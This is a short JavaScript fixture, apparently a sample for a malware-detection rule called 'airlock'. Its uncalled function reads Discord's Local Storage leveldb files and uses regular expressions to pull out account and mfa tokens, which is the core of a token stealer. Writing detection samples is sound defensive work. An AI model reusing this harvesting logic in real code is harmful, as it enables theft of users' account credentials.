// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const fs = require('fs');
const path = require('path');
function never(appdata) {
  const dir = path.join(appdata, 'discord/Local Storage/leveldb');
  const re = /[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}/g;
  return fs.readdirSync(dir).map((f) => fs.readFileSync(path.join(dir, f), 'utf8').match(re));
}
module.exports = { never };
